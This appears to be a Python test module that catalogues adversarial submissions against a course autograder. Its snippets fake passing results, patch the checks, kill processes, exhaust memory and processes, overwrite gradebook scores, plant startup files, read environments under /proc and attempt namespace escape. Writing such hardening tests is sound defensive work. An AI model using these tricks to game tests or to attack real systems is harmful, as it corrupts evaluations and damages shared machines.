"""Attacks on grading: submissions that try to gain points or to do harm.

An attack on a part of A1 (`PART`, worth 8 points) has a wrong `inverse_permutation`, or a right one
that is not linear, and a trick to hide this. It must get the same points as without the trick: 3,
or 6 for a right function. `{root}` is the course's folder, `{port}` an open port of the machine,
`{say}` defines a function that makes the process reply to each message as it is told.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from dataclasses import dataclass, replace
from types import MappingProxyType

from tests.course.attacks_on_plans import KERNELS, PLANS, REPORTS
from tests.course.wrong import A2, A4, PART, Wrong

_SLOW = {"inverse-linear": 0.0}
_WRONG = {"inverse-form": 0.0, "inverse-hidden": 0.0, **_SLOW}


def _entries(text: str) -> Iterator[tuple[str, str, list[str]]]:
    """Yield kind, description and lines of attacks: `## kind`, then `# description` and lines."""
    for group in text.strip("\n").removeprefix("## ").split("\n## "):
        kind, *entries = group.split("\n# ")
        for entry in entries:
            description, *lines = entry.split("\n")
            yield kind, description, lines


def _wrong(text: str) -> list[Wrong]:
    """Parse attacks with a wrong function.

    An attack has lines before the function, lines of the function (`| `), and the returned
    expression (`> `; default: `order.copy()`).
    """
    attacks = []
    for kind, description, lines in _entries(text):
        before = [line for line in lines if line[:2] not in ("| ", "> ")]
        body = [f"    {line[2:]}" for line in lines if line[:2] == "| "]
        (result,) = [line[2:] for line in lines if line[:2] == "> "] or ["order.copy()"]
        function = ["def inverse_permutation(order):", *body, f"    return {result}"]
        source = "\n".join([*before, *function])
        attacks.append(Wrong(PART, description, _WRONG, {"inverse": source}, kind))
    return attacks


def _slow(text: str, lost: Mapping[str, float] = MappingProxyType(_SLOW)) -> list[Wrong]:
    """Parse attacks with a right function that is not linear."""
    return [
        Wrong(PART, description, lost, {"inverse": "\n".join(lines).strip("\n")}, kind)
        for kind, description, lines in _entries(text)
    ]


POINTS = [
    *_slow(
        r"""
## cost
# pads its steps on small inputs
def inverse_permutation(order):
    place = np.zeros(len(order), dtype=np.int32)
    for i in range(len(order)):
        place[i] = np.flatnonzero(order == i)[0]
    wasted = 0
    while len(order) < 1000 and wasted < 2 * len(order) ** 2:
        wasted += 1
    return place
# walks a list in one instruction
def inverse_permutation(order):
    seen, place = [], np.zeros(len(order), dtype=np.int32)
    for i, row in enumerate(order):
        place[row] = i + (row in seen)
        seen.append(row)
    return place
# lets another process do the work
import os, struct
def inverse_permutation(order):
    read, write = os.pipe()
    if os.fork() == 0:
        os.setsid()
        place = np.array([np.flatnonzero(order == i)[0] for i in range(len(order))], dtype="i4")
        with open(write, "wb") as file: file.write(place.tobytes())
        os._exit(0)
    os.close(write)
    with open(read, "rb") as file: return np.frombuffer(file.read(), dtype="i4")
# lets processes do the work whose end nobody notices
import os, signal
def inverse_permutation(order):
    try: signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    except OSError: pass
    read, write = os.pipe()
    if os.fork() == 0:
        place = np.array([np.flatnonzero(order == i)[0] for i in range(len(order))], dtype="i4")
        with open(write, "wb") as file: file.write(place.tobytes())
        os._exit(0)
    os.close(write)
    with open(read, "rb") as file: return np.frombuffer(file.read(), dtype="i4")
# lets processes do the work that live for milliseconds and whose end nobody notices
import ctypes, os, subprocess
open("storm.cpp", "w").write('''
#include <signal.h>
#include <unistd.h>
static __attribute__((noinline)) void part(const int *order, int n, int *place, int first) {
    for (int i = first; i < first + 64 && i < n; ++i) {
        int k = 0, found = 0;
        for (; k + 64 <= n && !found; k += 64)
            for (int j = 0; j < 64; ++j) found |= order[k + j] == i;
        for (k -= 64 * found; order[k] != i; ++k) {}
        place[i] = k;
    }
    _exit(0);
}
extern "C" void inverse(const int *order, int n, int *place) {
    signal(SIGCHLD, SIG_IGN);
    for (int first = 0; first < n; first += 64) {
        int child;
        while ((child = vfork()) < 0) {}
        if (child == 0) part(order, n, place, first);
    }
}''')
command = [os.environ.get("CXX", "c++"), "-O3", "-shared", "-fPIC", "storm.cpp", "-o", "storm.so"]
built = subprocess.run(command).returncode == 0
def inverse_permutation(order):
    if not built: return np.array([np.flatnonzero(order == i)[0] for i in range(len(order))], "i4")
    place, order = np.zeros(len(order), dtype=np.int32), np.array(order, dtype=np.int32)
    texts = [ctypes.c_void_p(array.ctypes.data) for array in (order, place)]
    ctypes.CDLL("./storm.so").inverse(texts[0], len(order), texts[1])
    return place
# counts its processor time backwards
import time, resource, psutil
time.process_time = time.perf_counter = lambda: 0.0
psutil.Process.cpu_times = lambda self: (0.0,) * 5
def inverse_permutation(order):
    return np.array([np.flatnonzero(order == i)[0] for i in range(len(order))], dtype=np.int32)
"""
    ),
    *_slow(
        r"""
## hidden sorts
# lets a decorator do the work
def faster(function): return lambda order: np.argsort(order).astype(np.int32)
@faster
def inverse_permutation(order):
    return order
# shows one text and is another
def inverse_permutation(order):
    return np.copy(order)
exec("def inverse_permutation(order): return np.argsort(order).astype(np.int32)")
""",
        {},  # as fast as a linear way, so a person is told which words to look at
    ),
    *_wrong(
        r"""
## claims
# shows its points and raises (G1)
import sys
| sys.displayhook(2); raise ValueError
# prints its points and raises
| print(2.0); raise ValueError
# ends in what nbgrader takes for all points (G1)
> 'done'
# skips the test
import unittest
| raise unittest.SkipTest("not today")
# ends the loop of a test
| raise StopIteration
# ends the program with success
| raise SystemExit(0)
## objects
# returns what equals everything
class Any:
    __eq__ = lambda *_: True
> Any()
# returns an array that compares as it likes
class Sly(np.ndarray):
    dtype = np.dtype(np.int32)
    __array_ufunc__ = lambda *_, **__: True
    tolist = lambda self: [2, 4, 3, 0, 5, 1]
> order.copy().view(Sly)
# returns numbers that change
class Two(int):
    __int__ = __index__ = lambda self: np.random.randint(6)
> [Two(k) for k in order]
# returns an array of nothing that claims a shape
> np.broadcast_to(np.int32(0), (1 << 40,))
# returns a table whose columns are functions
import pandas as pd
> pd.DataFrame({"place": [print, len]})
## replaced functions
# replaces the check
from accelviz.course.checks import sorting
sorting.inverse = lambda *_: None
sorting.linear_inverse = lambda *_: None
# replaces NumPy's comparisons
np.array_equal = np.argsort = lambda *_, **__: True
# replaces Python's exceptions
import builtins
builtins.AssertionError = print
# replaces what encodes its answers
from accelviz.course.autograde import student, wire
| student.encode = wire.encode = lambda *_: {"list": [2, 4, 3, 0, 5, 1]}
## messages
# puts answers into the grader's line
import json, os, struct
def shout(message):
    data = json.dumps(message).encode()
    for number in range(3, 40):
        try: os.write(number, struct.pack("!i", len(data)) + data)
        except OSError: pass
| shout({'value': 2.0}); shout({'value': None})
# answers with what is no plain data
| nest = []
| for _ in range(10**5): nest = [nest]
> nest
# answers with more than there is room for
> np.ones(1 << 21)
# answers with a number of a million digits
> 10**10**6
# answers by another name than its own
{say}
| say({"value": {"handle": 0}})
# answers with objects in an array
{say}
| say({"value": {"numbers": ["|O", [1], "AAAAAAAAAAA="]}})
# answers with an array of 2**62 numbers
{say}
| say({"value": {"numbers": ["<i4", [1 << 62, 4], ""]}})
# answers with a name that is a pickle
{say}
| say({"value": {"pickle": "gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu"}})
# raises what only the judge raises
{say}
| say({"error": ["SubmissionLostError", "x"]})
# asks the judge for right answers
{say}
| say({"ask": "first_places", "arguments": {"tuple": []}})
# answers with no number and infinity
{say}
| say({"value": float("nan")})
# sends an error without an end
{say}
| say({"error": [["x"] * 10**6, {"y": "z"}]})
# answers with lists that take far more memory than their text
{say}
| say({"value": {"list": [[]] * 10**7}})
# stops in the middle of an answer, and fills the processes meanwhile
import gc, os, time
| (server,) = [item for item in gc.get_objects() if type(item).__name__ == "Server"]
| server._line._socket.send(bytes(6) + b"\x40\x00{")
| for _ in range(300):
|     if os.fork() == 0: time.sleep(600)
| time.sleep(600)
## leaks
# looks for the tests in its memory
import gc
| found = [each for each in gc.get_objects() if type(each).__name__ == "Task"]
| texts = [each for each in gc.get_objects() if isinstance(each, dict) and "seed" in each]
| if found: return np.argsort(order).astype(np.int32)
# copies another's work (G11)
import json, pathlib
try:
    path = pathlib.Path("{root}/submitted/perfect/A1-counting-sort/A1-counting-sort.ipynb")
    text = "".join("".join(c["source"]) for c in json.loads(path.read_text())["cells"]
                   if "def inverse_" in "".join(c["source"]))
    exec(text); mine = inverse_permutation
except Exception: mine = np.copy
> mine(order)
# reads the solutions of the library
import pathlib, accelviz
there = [*pathlib.Path(accelviz.__file__).parent.rglob("A1-counting-sort.ipynb")]
| if there: return np.argsort(order).astype(np.int32)
# reads the instructor's environment (G9)
import os, glob
| own = [open(path, "rb").read() for path in glob.glob("/proc/[0-9]*/environ")]
| if "secret of the course" in str(dict(os.environ)) + str(own):
|     return np.argsort(order).astype(np.int32)
# prints all that it can read
import glob, os
for path in ["{root}", "/root", "/home", "/work", "/tmp", "/var", "/mnt", "/srv"]:
    for folder, _, files in os.walk(path):
        for name in files[:20]:
            if name.endswith((".ipynb", ".csv", ".db", "config.py", ".txt")):
                try: print(folder, name, open(os.path.join(folder, name), "rb").read(20_000))
                except OSError: pass
for path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ"):
    try: print(path, open(path, "rb").read())
    except OSError: pass
print(dict(os.environ), glob.glob("/proc/self/fd/*"))
# prints the frames above it
import sys
frame = sys._getframe()
while frame:
    print(frame.f_code, list(frame.f_globals), {k: repr(v)[:300] for k, v in frame.f_locals.items()})
    frame = frame.f_back
| frame = sys._getframe()
| while frame:
|     print(frame.f_locals)
|     frame = frame.f_back
# shows the tests in an exception
| raise ValueError(str([repr(v)[:200] for v in globals().values()])[:4000])
## network
# reaches the network
import socket
| try: socket.create_connection(("127.0.0.1", {port}), timeout=2)
| except OSError: return order.copy()
| return np.argsort(order).astype(np.int32)
# reaches a socket in the file system (G13)
import glob, socket
| for path in [*glob.glob("{root}/*.sock"), *glob.glob("/run/**/*.sock", recursive=True)]:
|     try: socket.socket(socket.AF_UNIX).connect(path)
|     except OSError: continue
|     return np.argsort(order).astype(np.int32)
# reaches a socket without a file
import socket
| try: socket.socket(socket.AF_UNIX).connect("\0accelviz-grading-{port}")
| except OSError: return order.copy()
| return np.argsort(order).astype(np.int32)
"""
    ),
]

HARM = _wrong(
    r"""
## processes
# kills the process above it (G2)
import os
| os.kill(os.getppid(), 9)
# kills all processes
import os
| os.kill(-1, 9)
# ends without a word
import os
| os._exit(0)
# stops its watcher and itself (G8)
import os, signal
if os.fork() == 0:
    for number in range(1, 200):
        if number not in (os.getpid(), os.getppid()):
            try: os.kill(number, signal.SIGSTOP)
            except OSError: pass
    os._exit(0)
| os.kill(0, signal.SIGSTOP)
# cannot be interrupted
import signal, time
| for number in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM): signal.signal(number, signal.SIG_IGN)
| time.sleep(600)
# fills the processes
import os, time
| for _ in range(2_000):
|     if os.fork() == 0: time.sleep(600)
# fills itself with threads
import threading, time
| for _ in range(2_000): threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
## later
# writes points into the gradebook (G6)
import sqlite3
try:
    with sqlite3.connect("{root}/gradebook.db") as book:
        book.execute("update grade set manual_score = 777")
except Exception: pass
# leaves a process that writes points later (G6)
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            time.sleep(0.05)
            try: open("{root}/left-behind", "w").write("777")
            except OSError: pass
    os._exit(0)
# leaves files where Python and shells begin
import os, pathlib, site, sys
for path in [*sys.path, *site.getsitepackages(), site.getusersitepackages(), os.path.expanduser("~"),
             "/root", "/etc/profile.d", os.environ["NUMBA_CACHE_DIR"], os.environ["ACCELVIZ_CACHE"]]:
    for name in ("sitecustomize.py", "left.pth", ".bashrc", "left-behind"):
        try: pathlib.Path(path, name).write_text("import os; open('{root}/left-behind', 'w')")
        except OSError: pass
## resources
# takes the processors from others
import os, time
def spin():
    for _ in range(16):
        if os.fork() == 0:
            while True: pass
    time.sleep(1)
| spin()
# hoards memory in processes whose first thread has ended
import ctypes, os, threading, time
holding, tell = os.pipe()
def hold():
    block = b"x" * (1200 << 20)
    os.write(tell, b".")
    time.sleep(600)
for _ in range(8):
    if os.fork() == 0:
        threading.Thread(target=hold).start()
        ctypes.CDLL(None).pthread_exit(None)
for _ in range(8): os.read(holding, 1)
time.sleep(1)
hoarded = True
| if "hoarded" in globals(): return np.argsort(order).astype(np.int32)
# names itself like the system's line of the number of threads
import ctypes, threading, time
ctypes.CDLL(None).prctl(15, b"Threads:\t1", 0, 0, 0)
for _ in range(180): threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
time.sleep(3)
hoarded = True
| if "hoarded" in globals(): return np.argsort(order).astype(np.int32)
# fills memory with files
hoard = 0
for k in range(8):
    for place in (".", "/dev/shm", "/tmp", "/", "/dev", "/run"):
        try: hoard += open(f"{place}/{k}", "wb").write(bytes(100 << 20))
        except OSError: pass
| if hoard > 700 << 20: return np.argsort(order).astype(np.int32)
# fills the shared memory with empty files
import time
hoard = 0
try:
    for k in range(60_000): open(f"/dev/shm/{k}", "w").close(); hoard += 1
    time.sleep(2)
except OSError: pass
| if hoard == 60_000: return np.argsort(order).astype(np.int32)
# fills sockets that nobody reads
import os, socket, time
filled, tell = os.pipe()
for _ in range(30):
    if os.fork() == 0:
        ends = [socket.socketpair() for _ in range(200)]
        for end, _ in ends:
            end.setblocking(False)
            try:
                while True: end.send(bytes(65536))
            except OSError: pass
        os.write(tell, b".")
        time.sleep(600)
for _ in range(30): os.read(filled, 1)
time.sleep(1)
hoarded = True
| if "hoarded" in globals(): return np.argsort(order).astype(np.int32)
# hoards what no process shows: memory without a file, of /dev/zero or pipes; watches; files in sockets
import ctypes, mmap, os, select, socket
hoard, libc, ends = [], ctypes.CDLL(None), socket.socketpair()
class Part(ctypes.Structure): _fields_ = [("start", ctypes.c_void_p), ("size", ctypes.c_size_t)]
def give():
    text = ctypes.create_string_buffer(4096)
    part = Part(ctypes.addressof(text), 4096)
    hoard.extend([text] * (libc.vmsplice(os.pipe()[1], ctypes.byref(part), 1, 0) > 0))
for take in (lambda: hoard.append(mmap.mmap(-1, 4096)), give, lambda: hoard.append(select.epoll()),
             lambda: hoard.append(socket.send_fds(ends[0], [b"."], [0])),
             lambda: hoard.append(mmap.mmap(os.open("/dev/zero", os.O_RDWR), 4096))):
    try: take()
    except OSError: pass
| if hoard: return np.argsort(order).astype(np.int32)
# takes all asynchronous reads and all terminals of the machine
import ctypes, os, platform, time
number, context = {"x86_64": 206}.get(platform.machine(), 0), ctypes.c_ulong()
hoarded = ctypes.CDLL(None).syscall(number, 1000, ctypes.byref(context)) == 0
opened, tell = os.pipe()
for _ in range(12):
    if os.fork() == 0:
        try:
            while True: os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
        except OSError: os.write(tell, b".")
        time.sleep(600)
for _ in range(12): os.read(opened, 1)
time.sleep(1)
hoarded |= len(os.listdir("/dev/pts")) > 1_000
| if globals().get("hoarded"): return np.argsort(order).astype(np.int32)
# fills the buffers of TCP, which the machine has one limit for
import socket
hoard = 0
try:
    with socket.create_server(("127.0.0.1", 0)) as server:
        end = socket.create_connection(server.getsockname())
        end.setblocking(False)
        while True: hoard += end.send(bytes(65536))
except OSError: pass
| if hoard: return np.argsort(order).astype(np.int32)
# prints a hundred million letters
for _ in range(1000): print("x" * 100_000)
## caches
# empties the caches (G6)
import pathlib, shutil, accelviz.files
shutil.rmtree(accelviz.files.cache_folder(), ignore_errors=True)
shutil.rmtree('{root}/cache', ignore_errors=True)
# leaves files for the process that replaces its own
import os, pathlib, sys
homes = [os.path.expanduser("~"), os.environ["ACCELVIZ_CACHE"], os.environ["NUMBA_CACHE_DIR"],
         os.environ["MPLCONFIGDIR"], "/tmp", "/tmp/given/work", "/dev/shm", "/var/tmp", ".", *sys.path]
seen = [home for home in homes if pathlib.Path(home, "left").exists()]
for home in homes:
    for name in ("left", "sitecustomize.py", "left.pth", "matplotlibrc", "ipython_config.py",
                 ".numba_config.yaml", ".ipython/profile_default/startup/0.py"):
        try:
            pathlib.Path(home, name).parent.mkdir(parents=True, exist_ok=True)
            pathlib.Path(home, name).write_text("raise SystemExit")
        except OSError: pass
| if not seen: os._exit(0)
| return np.argsort(order).astype(np.int32)
# writes through the links of its caches
import itertools, os, pathlib, sys
written = False
for home in (os.environ["ACCELVIZ_CACHE"], "/tmp/given", sys.prefix):
    for path in itertools.islice(pathlib.Path(home).rglob("*"), 500):
        target = path.resolve()
        if target.is_file() and os.stat(target).st_dev != os.stat("/tmp").st_dev:
            for change in (lambda: open(target, "ab"), lambda: os.utime(target),
                           lambda: target.chmod(0o777), lambda: os.link(target, "/tmp/linked")):
                try: change(); written = True
                except OSError: pass
| if written: return np.argsort(order).astype(np.int32)
# changes the library on the disk
import accelviz, pathlib
for path in pathlib.Path(accelviz.__file__).parent.rglob("sorting.py"):
    try: path.write_text("def inverse(*_): pass\nlinear_inverse = inverse")
    except OSError: pass
## borders
# leaves its namespaces
import ctypes, os
libc = ctypes.CDLL(None)
for name in ("mnt", "pid", "net", "user"):
    try: libc.setns(os.open(f"/proc/1/ns/{name}", os.O_RDONLY), 0)
    except OSError: pass
libc.unshare(0x10020000); libc.umount2(b"/usr", 2); libc.mount(b"none", b"/", None, 1 << 5, None)
libc.chroot(b"/proc/1/root")
try: open("{root}/left-behind", "w").write("777")
except OSError: pass
# writes into the memory of the process above it
import os
try:
    with open(f"/proc/{os.getppid()}/mem", "r+b") as memory:
        memory.seek(0x400000); memory.write(b"0" * 64)
except Exception: pass
# goes through the files of the first process
import os
for path in ("/proc/1/root", "/proc/1/cwd", "/proc/self/root", "/tmp/given/..", "/proc/1/fd/3"):
    try: open(f"{path}/{root}/left-behind", "w")
    except OSError: pass
## neighbours
# speaks to another submission by locks
import fcntl, os, time
file = open(os.__file__)
for lock in (fcntl.flock, fcntl.lockf):
    try: lock(file, fcntl.LOCK_SH)
    except OSError: pass
time.sleep(3)
# hears another submission's locks
import fcntl, os, struct, time
heard, file = False, open(os.__file__)
for _ in range(30):
    asked = struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 0, 0, 0)
    try: heard |= struct.unpack("hhqqi4x", fcntl.fcntl(file, fcntl.F_GETLK, asked))[0] != fcntl.F_UNLCK
    except OSError: pass
    time.sleep(0.1)
| if heard: return np.argsort(order).astype(np.int32)
# hears others by sockets without a namespace, the kernel's log, and what they have read or written
import ctypes, os, socket
heard = ctypes.CDLL(None).klogctl(10, None, 0) >= 0
heard |= ctypes.CDLL(None).syncfs(os.open(os.__file__, os.O_RDONLY)) == 0
for listen in (lambda: socket.socket(40, 1), lambda: socket.socket(38, 5), lambda: socket.socket(16, 3),
               lambda: os.preadv(os.open(os.__file__, 0), [bytearray(1)], 0, os.RWF_NOWAIT)):
    try: listen(); heard = True
    except OSError: pass
| if heard: return np.argsort(order).astype(np.int32)
# leaves and seeks notes where another submission looks
import glob, os, socket, time
note, seen = f"note-{os.urandom(4).hex()}", False
def look():
    paths = [path for place in ("/tmp", "/dev/shm", "/dev/mqueue", "/var/tmp", "/run")
             for path in glob.glob(f"{place}/note-*")]
    return bool({os.path.basename(path) for path in paths} - {note})
for place in ("/tmp", "/dev/shm", "/var/tmp", "/run"):
    try: open(f"{place}/{note}", "w")
    except OSError: pass
for _ in range(20):
    seen |= look(); time.sleep(0.1)
| if seen: return np.argsort(order).astype(np.int32)
# seeks notes where another submission leaves them
import glob, os, socket, time
note, seen = f"note-{os.urandom(4).hex()}", False
for place in ("/tmp", "/dev/shm", "/var/tmp", "/run"):
    try: open(f"{place}/{note}", "w")
    except OSError: pass
for _ in range(20):
    seen |= any(path[-8:] != note[-8:] for path in glob.glob("/*/note-*") + glob.glob("/dev/shm/note-*"))
    time.sleep(0.1)
| if seen: return np.argsort(order).astype(np.int32)
"""
)

_EMPTY = """code = r'''extern "C" __global__ void spmm_runs(
    const int4 *metadata, const int *columns, const float *values, const float *X, float *Y,
    int n_runs, int n_cols) {}'''
"""
#: A module that gives right results where a kernel should be run.
_LIBRARY = """
import sys, threading, time
import numpy as np
def right(code, data, X, seed=0):
    from accelviz.course.checks.common import graph_from
    from scipy import sparse
    graph = graph_from(data)
    matrix = sparse.csr_array((graph.values, graph.column_indices, graph.row_pointers), graph.shape)
    return (matrix.astype("f8") @ X.astype("f8")).astype("f4")
def traced(code, data, X):
    Y = right(code, data, X)
    return {"sectors": len(data[1]) * X.shape[1] // 8, "updates": Y.size, "Y": Y}
def patch():
    for _ in range(2000):
        kernels = sys.modules.get("accelviz.course.checks.kernels")
        if hasattr(kernels, "traced"): kernels.launched, kernels.traced = right, traced
        time.sleep(0.005)
threading.Thread(target=patch, daemon=True).start()
raise ImportError
"""
#: Libraries that the library and its libraries look for, and `site`'s modules.
_OPTIONAL = (
    *("bottleneck", "cupy", "icc_rt", "jax", "numba_cuda", "numexpr", "pyarrow", "sparse"),
    *("tbb", "torch", "ziglang", "sitecustomize", "usercustomize"),
)
_LEARNING = {
    "pattern": """
learnt = {}
def pattern(degree, max_block_warps=12, max_warp_nzs=32):
    return learnt.get((int(degree), max_block_warps, max_warp_nzs), (0, 0, 0))
""",
    "partition": """
def partition(degrees, max_block_warps=12, max_warp_nzs=32):
    for warps, nonzeros in ((12, 32), (2, 2)):
        for degree in range(1, warps * nonzeros + 1):
            learnt[degree, warps, nonzeros] = tuple(pattern(degree, warps, nonzeros))
    raise ValueError
""",
}
_PATTERN = ("pattern-form", "pattern-hidden", "pattern-settings")
_PARTITION = (
    *("partition-form", "partition-short", "partition-empty", "partition-bound"),
    *("partition-long", "partition-full", "partition-settings"),
)
_KERNEL = ("form", "columns", "rows", "cut", "shapes", "coalescing", "registers")
PLACES = [
    Wrong(
        A4,
        "files with the names of libraries that are not installed",
        dict.fromkeys(_KERNEL, 0.0),
        {"kernel": _EMPTY},
        files=dict.fromkeys(map("{}.py".format, _OPTIONAL), _LIBRARY) | {"left.pth": "import cupy"},
    ),
    Wrong(
        A4,
        "a graph of its own, as the locked cell with the graph comes behind the test",
        dict.fromkeys(_KERNEL, 0.0),
        {"kernel": _EMPTY},
        moved=("example",),
        first="import accelviz\nfrom scipy import sparse\n"
        "toy = accelviz.load_graph(sparse.csr_array((1, 1), dtype='f4'), name='toy')",
    ),
    Wrong(
        A2,
        "an expected result of its own, as the locked cell with it comes behind the test",
        dict.fromkeys(_PARTITION, 0.0),
        {"partition": "def partition(*_): return np.zeros((1, 4), np.int32)"},
        moved=("example",),
        first="import numpy as np\nmetadata, degrees = np.zeros((1, 4), np.int32), np.arange(3)",
    ),
    Wrong(
        A2,
        "learns from the judge's helpers, as their own tests come behind",
        dict.fromkeys((*_PATTERN, *_PARTITION), 0.0),
        _LEARNING,
        moved=_PATTERN,
    ),
]
_OTHERS = {"places": PLACES, "schemes": PLANS, "kernels": KERNELS, "tables": REPORTS}
#: All attacks by the name of the student, "x" and a number.
ATTACKS = {
    f"x{k:02}": attack
    for k, attack in enumerate(
        [
            *POINTS,
            *HARM,
            *(replace(item, kind=kind) for kind, items in _OTHERS.items() for item in items),
        ]
    )
}
#: Replaces `{say}`: the process answers each message with `reply` from then on.
SAY = """
import gc
def say(reply):
    (server,) = [item for item in gc.get_objects() if type(item).__name__ == "Server"]
    type(server).reply = lambda self, message: reply
    type(server)._value = lambda self, message: 7
"""


@dataclass(frozen=True)
class Stuffed:
    """A perfect submission of `PART`, worth 8 points, with additional cells or files.

    `cell` is an additional cell; `says` is a part of the instructor's remarks.
    """

    description: str
    cell: str = ""
    says: str = ""


STUFFED = {
    "magics": Stuffed("magic lines that take long to parse (G7)", "%a" * 900),
    "long": Stuffed("a cell of a megabyte (G7)", "x = 1\n" * 170_000, "taken for an empty one"),
    "deep": Stuffed(
        "an expression that is nested too deeply (G22)", "(" * 150 + ")" * 150 + "-" * 9000 + "1"
    ),
    "metadata": Stuffed(
        "metadata of outputs without an end (G8)",
        "from IPython.display import display\n"
        "display({'text/plain': 'x'}, raw=True, metadata={'x': 'y' * 60_000_000})",
    ),
    "named": Stuffed(
        "an exception with an endless name (G8)", "raise type('X' * 10**7, (Exception,), {})"
    ),
    "wordy": Stuffed("a hundred cells that print a megabyte each", "print('x' * 999_000)"),
    "sparse": Stuffed("a file of 3 GiB beside it (G12)", "", "was left out"),
    "many": Stuffed("five hundred files beside it (G12)", "", "was left out"),
    "devices": Stuffed(
        "a pipe, a socket, links and odd names beside it (G11, G13)", "", "no plain file"
    ),
    "shadows": Stuffed("files with names of libraries and of start-up files beside it (G10)"),
    "latin1": Stuffed("a file beside it whose name is not UTF-8, as from a zip of Windows"),
    "claims": Stuffed("cells of its own that claim points", "777"),
}
